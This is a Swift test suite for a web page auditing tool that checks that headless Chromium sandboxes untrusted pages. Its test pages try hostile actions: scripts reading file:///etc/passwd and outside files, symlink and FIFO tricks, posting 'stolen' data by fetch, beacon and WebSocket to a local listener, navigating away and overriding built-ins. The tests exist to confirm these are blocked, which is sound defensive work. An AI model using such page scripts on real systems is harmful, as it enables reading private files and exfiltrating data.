#if canImport(Glibc)
import Glibc
#endif
import DynamicType
import Foundation
import Testing
@testable import WebAudit

/// A page is untrusted input: it reads no file outside its folder and none by script, reaches no
/// network, does not navigate away, and cannot tamper with the measuring script. Real headless
/// Chromium; the pages below are what a hostile page would do.
@Suite(.serialized) struct HostilePageTests {
    typealias Site = ChromiumTests.Site
    static let head = ChromiumTests.head

    /// Opens `name` of `site` in `browser`, restyles and measures it once.
    static func measure(_ name: String, in site: Site, browser: DevToolsBrowser, timeout: Double = 20,
                        totalTimeout: Double? = nil) throws -> (WebMeasurement, [String]) {
        let page = try WebPageSession(browser: browser, fileURL: site.file(name), displayPath: name, width: 320,
                                      height: 500, scaling: .none, timeout: timeout, totalTimeout: totalTimeout)
        defer { page.close() }
        try page.apply(category: .large, scaling: .none, rootFontSize: nil)
        let m = try page.measure()
        return (m, page.offlineRequests)
    }

    static func error(_ name: String, in site: Site, browser: DevToolsBrowser) throws -> WebAuditError {
        try #require(throws: WebAuditError.self) { _ = try measure(name, in: site, browser: browser) }
    }

    @Test func scriptsReadNoFileInsideOrOutsideTheFolder() throws {
        let outside = try Site(["secret.txt": "TOP-SECRET-OUTSIDE"])
        let site = try Site([
            "passwd.html": Self.head + """
                </head><body><p id="out">none</p><script>
                fetch("file:///etc/passwd").then(r => r.text()).then(t => { document.getElementById("out").textContent = t })
                </script></body></html>
                """,
            "outside.html": Self.head + """
                </head><body><p id="out">none</p><script>
                const x = new XMLHttpRequest(); x.open("GET", "\(outside.file("secret.txt").absoluteString)");
                x.onload = () => { document.getElementById("out").textContent = x.responseText }; x.send();
                </script></body></html>
                """,
            "inside.html": Self.head + """
                </head><body><p id="out">none</p><script>
                fetch("data.json").then(r => r.text()).then(t => { document.getElementById("out").textContent = t })
                </script></body></html>
                """,
            "data.json": "\"INSIDE\"",
        ])
        let browser = try DevToolsBrowser()
        defer { browser.close() }
        #expect(try Self.error("passwd.html", in: site, browser: browser).description
                == "passwd.html: a script of the page reads /etc/passwd (a page may load files only as stylesheets, fonts, images, scripts and frames)")
        let secret = RequestPolicy.resolve(outside.file("secret.txt").path) ?? ""
        #expect(try Self.error("outside.html", in: site, browser: browser).description
                == "outside.html: a script of the page reads \(secret) (a page may load files only as stylesheets, fonts, images, scripts and frames)")
        // Its own folder's files are not readable by script either (as in a WKWebView page loaded from a file).
        #expect(try Self.error("inside.html", in: site, browser: browser).message.hasPrefix("a script of the page reads "))
    }

    @Test func stylesheetsAndImagesOutsideTheFolderOrNotRegularFilesAreRefused() throws {
        let site = try Site([
            "abs.html": Self.head + "<link rel=\"stylesheet\" href=\"file:///etc/hostname\"></head><body>x</body></html>",
            "up.html": Self.head + "</head><body><img src=\"../secret.png\">x</body></html>",
            "zero.html": Self.head + "<link rel=\"stylesheet\" href=\"file:///dev/zero\"></head><body>x</body></html>",
            "fifo.html": Self.head + "<link rel=\"stylesheet\" href=\"pipe.css\"></head><body>x</body></html>",
            "link.html": Self.head + "<link rel=\"stylesheet\" href=\"passwd.css\"></head><body>x</body></html>",
        ])
        try Data("PNG".utf8).write(to: site.url.deletingLastPathComponent().appendingPathComponent("secret.png"))
        defer { try? FileManager.default.removeItem(at: site.url.deletingLastPathComponent().appendingPathComponent("secret.png")) }
        #expect(mkfifo(site.file("pipe.css").path, 0o600) == 0)
        try FileManager.default.createSymbolicLink(atPath: site.file("passwd.css").path, withDestinationPath: "/etc/passwd")
        let folder = (RequestPolicy.resolve(site.url.path) ?? "") + "/"
        let parent = RequestPolicy.resolve(site.url.deletingLastPathComponent().path) ?? ""
        let browser = try DevToolsBrowser()
        defer { browser.close() }
        let outside = "(a page may read only its web view's readAccess folder)"
        #expect(try Self.error("abs.html", in: site, browser: browser).message == "the page loads /etc/hostname, outside its read-access folder \(folder) \(outside)")
        #expect(try Self.error("up.html", in: site, browser: browser).message == "the page loads \(parent)/secret.png, outside its read-access folder \(folder) \(outside)")
        #expect(try Self.error("zero.html", in: site, browser: browser).message == "the page loads /dev/zero, outside its read-access folder \(folder) \(outside)")
        #expect(try Self.error("fifo.html", in: site, browser: browser).message == "the page loads \(folder)pipe.css, which is not a regular file")
        // A symbolic link in the folder is followed before the check.
        #expect(try Self.error("link.html", in: site, browser: browser).message == "the page loads \(folder)passwd.css, outside its read-access folder \(folder) \(outside)")
    }

    /// A TCP listener on 127.0.0.1 that counts the connections it receives.
    final class Listener {
        let fd: Int32
        let port: Int
        init() throws {
            let fd = socket(AF_INET, Int32(SOCK_STREAM.rawValue), 0)
            self.fd = fd
            var address = sockaddr_in()
            address.sin_family = sa_family_t(AF_INET)
            address.sin_addr.s_addr = inet_addr("127.0.0.1")
            address.sin_port = 0
            var length = socklen_t(MemoryLayout<sockaddr_in>.size)
            let bound = withUnsafeMutablePointer(to: &address) {
                $0.withMemoryRebound(to: sockaddr.self, capacity: 1) { bind(fd, $0, length) == 0 && getsockname(fd, $0, &length) == 0 }
            }
            guard bound, listen(fd, 16) == 0 else { throw WebAuditError("cannot listen on 127.0.0.1") }
            port = Int(UInt16(bigEndian: address.sin_port))
        }
        deinit { close(fd) }
        /// Connections accepted within `seconds` (bounded wait).
        func connections(within seconds: Double) -> Int {
            var count = 0
            let end = Date().addingTimeInterval(seconds)
            while Date() < end {
                var poller = pollfd(fd: fd, events: Int16(POLLIN), revents: 0)
                guard poll(&poller, 1, 100) > 0 else { continue }
                let client = accept(fd, nil, nil)
                if client >= 0 { count += 1; close(client) }
            }
            return count
        }
    }

    @Test func thePageReachesNoNetwork() throws {
        let listener = try Listener()
        let base = "http://127.0.0.1:\(listener.port)"
        let site = try Site(["page.html": Self.head + """
            </head><body><p id="x">Help</p><img src="\(base)/pixel.png"><script>
            fetch("\(base)/post", { method: "POST", body: "stolen" }).catch(() => {});
            navigator.sendBeacon("\(base)/beacon", "stolen");
            try { new WebSocket("ws://127.0.0.1:\(listener.port)/socket") } catch (e) {}
            const link = document.createElement("link"); link.rel = "prefetch"; link.href = "\(base)/prefetch"; document.head.append(link);
            </script></body></html>
            """])
        let browser = try DevToolsBrowser()
        defer { browser.close() }
        let (m, offline) = try Self.measure("page.html", in: site, browser: browser)
        // Measured without what it asked of the network; each request named once, as a warning.
        #expect(m.elements.contains { $0.selector == "#x" && $0.text == "Help" })
        #expect(offline.contains("\(base)/pixel.png") && offline.contains("\(base)/post"))
        #expect(listener.connections(within: 1) == 0)
    }

    @Test func navigatingAwayIsAnErrorAndNothingIsMeasured() throws {
        let site = try Site([
            "now.html": Self.head + "</head><body>x<script>location.href = 'file:///etc/passwd'</script></body></html>",
            "later.html": Self.head + "</head><body>x<script>onload = () => { location.href = 'file:///root/' }</script></body></html>",
            "web.html": Self.head + "</head><body>x<script>location.replace('http://127.0.0.1:9/')</script></body></html>",
        ])
        let browser = try DevToolsBrowser()
        defer { browser.close() }
        let suffix = "(a web view is measured on its own page)"
        #expect(try Self.error("now.html", in: site, browser: browser).message == "the page navigates to file:///etc/passwd \(suffix)")
        #expect(try Self.error("later.html", in: site, browser: browser).message == "the page navigates to file:///root/ \(suffix)")
        #expect(try Self.error("web.html", in: site, browser: browser).message == "the page navigates to http://127.0.0.1:9/ \(suffix)")
    }

    /// The measuring script runs in an isolated world: the page's own overrides do not reach it.
    /// `CSS.escape("x:1")` is `x\:1` (CSSOM, "serialize an identifier": `:` is escaped with a backslash).
    @Test func pageOverridesDoNotChangeMeasurements() throws {
        let body = """
            </head><body style="margin: 8px; font: 16px sans-serif"><div id="x:1" style="width: 500px">wide</div>
            <p class="a">text</p></body></html>
            """
        let patch = """
            <script>
            JSON.stringify = () => '{"viewportWidth":1,"viewportHeight":1,"pageWidth":1,"pageHeight":1,"hasDeviceWidthViewport":false,"elements":[]}';
            CSS.escape = () => "forged";
            Element.prototype.getBoundingClientRect = () => ({ left: 0, right: 1, top: 0, bottom: 1, width: 1, height: 1 });
            window.getComputedStyle = () => ({ display: "none" });
            Array.prototype.push = function () { return 0 };
            document.querySelectorAll = () => [];
            </script>
            """
        let site = try Site(["plain.html": Self.head + body, "patched.html": Self.head + patch + body])
        let browser = try DevToolsBrowser()
        defer { browser.close() }
        let (plain, _) = try Self.measure("plain.html", in: site, browser: browser)
        let (patched, _) = try Self.measure("patched.html", in: site, browser: browser)
        #expect(patched == plain)
        // body margin 8 + width 500.
        #expect(patched.elements.contains { $0.selector == "#x\\:1" && $0.left == 8 && $0.right == 508 })
    }

    @Test func aPageOutOfMemoryIsNamed() throws {
        let site = try Site(["page.html": Self.head + """
            </head><body>x<script>const keep = []; for (;;) keep.push(new Array(1e6).fill(1.5));</script></body></html>
            """])
        let browser = try DevToolsBrowser()
        defer { browser.close() }
        let error = try Self.error("page.html", in: site, browser: browser)
        #expect(error.message.hasPrefix("the page ran out of memory (the limits are \(BrowserLaunch.javaScriptHeapMB) MB of JavaScript heap"))
        #expect(!error.browserFailure)
    }

    /// A page whose every step stalls just under the step's timeout is stopped by the page's total time.
    @Test func aPageThatStallsEveryStepMeetsItsTotalTime() throws {
        let site = try Site(["page.html": Self.head + """
            </head><body>x<script>setInterval(() => { const t = Date.now(); while (Date.now() - t < 800) {} }, 0)</script></body></html>
            """])
        let browser = try DevToolsBrowser()
        defer { browser.close() }
        let start = Date()
        let error = try #require(throws: WebAuditError.self) {
            let page = try WebPageSession(browser: browser, fileURL: site.file("page.html"), displayPath: "page.html",
                                          width: 320, height: 500, scaling: .none, timeout: 2, totalTimeout: 3)
            defer { page.close() }
            for category in ContentSizeCategory.allCases {
                try page.apply(category: category, scaling: .none, rootFontSize: nil)
                _ = try page.measure()
            }
        }
        #expect(error.message == "the web view took over 3 s in all (each step may take 2 s)")
        #expect(Date().timeIntervalSince(start) < 3 + 2 + 5 + 5)
    }
}

extension HostilePageTests {
    /// The browser's renderer processes (`--type=renderer` in the browser's process group).
    static func renderers(of group: Int32) -> [Int32] {
        let ids = (try? FileManager.default.contentsOfDirectory(atPath: "/proc")) ?? []
        return ids.compactMap { id -> Int32? in
            guard let pid = Int32(id), getpgid(pid) == group,
                  let data = FileManager.default.contents(atPath: "/proc/\(id)/cmdline") else { return nil }
            let line = String(decoding: data.map { $0 == 0 ? 0x20 : $0 }, as: UTF8.self)
            return line.contains("--type=renderer") && !line.contains("--top-chrome-webui") ? pid : nil
        }
    }

    static func cpuTicks(_ pid: Int32) -> Int {
        guard let data = FileManager.default.contents(atPath: "/proc/\(pid)/stat") else { return 0 }
        let text = String(decoding: data, as: UTF8.self)
        guard let close = text.lastIndex(of: ")") else { return 0 }
        let fields = text[text.index(after: close)...].split(separator: " ")  // fields[0] is field 3
        return fields.count > 12 ? (Int(fields[11]) ?? 0) + (Int(fields[12]) ?? 0) : 0
    }

    /// A renderer killed from outside is reported as such at once (the browser's crash notice),
    /// as a browser failure to retry, not after the page's timeout as "timed out".
    @Test func aKilledRendererIsSaidAtOnce() throws {
        let site = try Site(["page.html": Self.head + "</head><body><script>for (;;) {}</script></body></html>"])
        let browser = try DevToolsBrowser()
        defer { browser.close() }
        let group = browser.processID
        let done = Flag()
        let killer = Thread {
            // The page's renderer is the one spinning in its endless loop (it may be the browser's
            // first renderer, reused): the first to use 0.2 s of CPU after it is first seen (utime +
            // stime, fields 14 and 15 of /proc/<pid>/stat, in 1/100 s). It is killed once.
            var seen: [Int32: Int] = [:]
            let end = Date().addingTimeInterval(25)
            while Date() < end && !done.isSet {
                usleep(100_000)
                for renderer in Self.renderers(of: group) {
                    let ticks = Self.cpuTicks(renderer)
                    if ticks - seen[renderer, default: ticks] > 20 {
                        kill(renderer, SIGKILL)
                        return
                    }
                    if seen[renderer] == nil { seen[renderer] = ticks }
                }
            }
        }
        let start = Date()
        killer.start()
        let error = try #require(throws: WebAuditError.self) {
            _ = try WebPageSession(browser: browser, fileURL: site.file("page.html"), displayPath: "page.html",
                                   width: 320, height: 500, scaling: .none, timeout: 30)
        }
        done.set()
        #expect(error.browserFailure)
        #expect(error.description.hasPrefix("page.html: the page crashed in the browser: its renderer process ended"), "\(error)")
        #expect(Date().timeIntervalSince(start) < 20)
    }
}

/// A flag one thread sets and another reads.
final class Flag: @unchecked Sendable {
    private let lock = NSLock()
    private var value = false
    var isSet: Bool { lock.lock(); defer { lock.unlock() }; return value }
    func set() { lock.lock(); value = true; lock.unlock() }
}
